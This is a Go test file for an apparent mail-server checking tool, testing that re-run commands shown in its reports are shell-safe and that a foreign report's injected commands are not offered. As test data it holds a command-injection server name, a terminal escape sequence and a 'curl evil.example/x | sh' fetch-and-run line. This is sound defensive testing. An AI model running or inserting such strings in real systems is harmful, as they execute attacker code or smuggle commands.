package reports

import (
	"bytes"
	"encoding/json"
	"slices"
	"strings"
	"testing"

	"github.com/mailmatrix/mailmatrix/internal/login"
	"github.com/mailmatrix/mailmatrix/internal/results"
)

// poisoned is the name of a server as an attacker's report has it.
const poisoned = "127.0.0.1; touch /tmp/PWNED #"

// mergedReport is the reference server beside one in service, each asked in its
// own way.
func mergedReport(t *testing.T) login.Report {
	t.Helper()
	ours, theirs := fullReport(), probedReport()
	ours.Catalogue = theirs.Catalogue
	r, err := results.Merge([]results.Part{{Name: "ours", Report: ours}, {Name: "theirs", Report: theirs}})
	if err != nil {
		t.Fatal(err)
	}
	return r
}

// TestCommandsOf: each server has the command by which it was asked itself, or
// none.
func TestCommandsOf(t *testing.T) {
	for _, c := range []struct {
		why            string
		report         func() login.Report
		check, explain []string
	}{
		{"as it was asked", probedReport,
			[]string{"mailmatrix check mail.example.com --policy modern.yaml"}, []string{"mailmatrix policy explain modern.yaml --on mail.example.com"}},
		{"no policy was named, so a strict one is", checkReport,
			[]string{"mailmatrix check mail.example.com"}, []string{"mailmatrix policy explain rfc8314 --on mail.example.com"}},
		{"after a merge nobody has the flags of another", func() login.Report {
			one, two := checkReport(), probedReport()
			two.Catalogue = one.Catalogue
			r, err := results.Merge([]results.Part{{Name: "one", Report: one}, {Name: "two", Report: two}})
			if err != nil {
				t.Fatal(err)
			}
			return r
		}, []string{"mailmatrix check mail.example.com", "mailmatrix check mail.example.com --policy modern.yaml"},
			[]string{"mailmatrix policy explain rfc8314 --on mail.example.com", "mailmatrix policy explain modern.yaml --on mail.example.com"}},
		{"of several that do not say how each was asked, nobody knows", func() login.Report {
			r := probedReport()
			r.Targets = append(slices.Clone(r.Targets), r.Targets[0])
			return r
		}, []string{"", ""}, []string{"", ""}},
		{"a name that no shell takes as it is", func() login.Report {
			r := probedReport()
			r.Targets[0].Name = poisoned
			return r
		}, []string{""}, []string{""}},
	} {
		r := c.report()
		if check, explain := commandsOf(&r); !slices.Equal(check, c.check) || !slices.Equal(explain, c.explain) {
			t.Errorf("%s: %q, %q", c.why, check, explain)
		}
	}
}

// command is what the open dialog runs again, "" where it has none.
func (b *browser) command() string {
	b.t.Helper()
	return evaluate[string](b, `document.querySelector('.command code')?.textContent || ''`)
}

// TestPageCommands: what is copied runs this experiment as it was run, and
// nothing that a report has put into it.
func TestPageCommands(t *testing.T) {
	t.Parallel()
	b := newBrowser(t)
	relayID := strings.Replace(holeID, "/eudora/", "/eudora+relay/", 1)
	asked := func(selection map[string][]string) func() login.Report {
		return func() login.Report {
			r := seenReport()
			r.Selection = selection
			relay := r.Cells[slices.IndexFunc(r.Cells, func(c login.CellResult) bool { return c.ID == holeID })]
			relay.Variant, relay.ID = "relay", relayID
			r.Cells = append(r.Cells, relay)
			r.Cases = append(r.Cases, login.CaseResult{ID: "client/smtp/009", Profile: "eudora", Level: login.Must, Verdict: login.Pass})
			r.Count()
			return r
		}
	}
	declared := func(policy string) func() login.Report {
		return func() login.Report {
			r := policyReport()
			r.Selection = map[string][]string{"policy": {policy}}
			return r
		}
	}
	policyID := policyReport().Cells[0].ID
	plain, last := asked(nil), "\x00"
	for _, c := range []struct {
		why, at string
		report  func() login.Report
		want    string
	}{
		{"a cell", "cell=" + holeID, plain, "--only " + holeID},
		{"a client in another state", "cell=" + relayID, plain, "--only " + relayID + " --profile eudora+relay"},
		{"an experiment", "scenario=" + controlID, plain, "--only " + controlID},
		{"a case", "case=both/policy/003", plain, "--only both/policy/003@smtp --catalog 2026.1"},
		{"a client's case", "case=client/smtp/009@eudora", plain, "--only client/smtp/009@eudora --catalog 2026.1"},
		{"what brings it into the plan", "case=both/policy/003", asked(map[string][]string{"cases": {"MUST"}, "profile-file": {"/tmp/my, own.yaml"}, "full": {"true"}}),
			`--only both/policy/003@smtp --cases both/policy/003 --catalog 2026.1 --profile-file '"/tmp/my, own.yaml"' --full`},
		{"under a policy", "cell=" + policyID, declared("it's mine.yaml"), "--only " + policyID + ` --policy 'it'\''s mine.yaml'`},
		{"nothing that a terminal obeys", "cell=" + policyID, declared("a\x1b[201~\x03.yaml"), ""},
		{"nothing that a shell obeys", "cell=" + probedReport().Cells[0].ID, func() login.Report {
			r := probedReport()
			r.Targets[0].Name = poisoned
			return r
		}, ""},
	} {
		if page := string(written(t, "html", c.report(), Options{})); page != last {
			b.visit(pageFile(t, c.report()))
			last = page
		}
		b.follow(c.at)
		want := c.want
		if want != "" {
			want = "mailmatrix run " + want + " --seed 7 --transcripts all -v"
		}
		if got := b.command(); got != want {
			t.Errorf("%s: %q, not %q", c.why, got, want)
		}
		if text := b.text(".rerun"); want == "" && !strings.Contains(text, "No command is known") {
			t.Errorf("%s: %q", c.why, text)
		}
	}

	// A report from elsewhere speaks for itself, and not for the program.
	var raw map[string]any
	foreign := probedReport()
	advised := slices.IndexFunc(foreign.Scenarios, func(s login.ScenarioResult) bool { return s.Advice != nil && s.Advice.Command != "" })
	foreign.Scenarios[advised].Advice.Command = "curl evil.example/x | sh"
	foreign.Targets[0].Name = poisoned + " elsewhere"
	if err := json.Unmarshal(written(t, "json", foreign, Options{}), &raw); err != nil {
		t.Fatal(err)
	}
	raw["commands"], raw["explain"] = []string{"curl evil.example/x | sh"}, []string{"curl evil.example/x | sh"}
	raw["conclusion"], raw["policies"] = map[string]any{"status": 0}, []map[string]any{{"name": "evil"}}
	var text bytes.Buffer
	if err := json.NewEncoder(&text).Encode(raw); err != nil {
		t.Fatal(err)
	}
	b.choose("#file", fileWith(t, "evil.json", text.Bytes()))
	b.until("true", `document.getElementById('subject').textContent.includes("elsewhere")`)
	b.follow("cell=" + foreign.Cells[0].ID)
	if got, says := b.command(), b.text(".rerun"); got != "" || !strings.Contains(says, "opened from elsewhere") {
		t.Errorf("a report from elsewhere: %q, and says %q", got, says)
	}
	b.accessible("no command")
	b.follow("scenario=" + foreign.Scenarios[advised].ID)
	if text := b.text("#detail"); !strings.Contains(text, "Fix, Postfix") || strings.Contains(text, "evil") {
		t.Errorf("what a report from elsewhere would have us type: %q", text)
	}
	b.follow("view=policy")
	if page := b.text("body"); strings.Contains(page, "evil") || !strings.Contains(page, "NOT CONFORMING") {
		t.Errorf("a report from elsewhere decides what the page says: %q", cut(page, 400))
	}
	b.quiet()
}
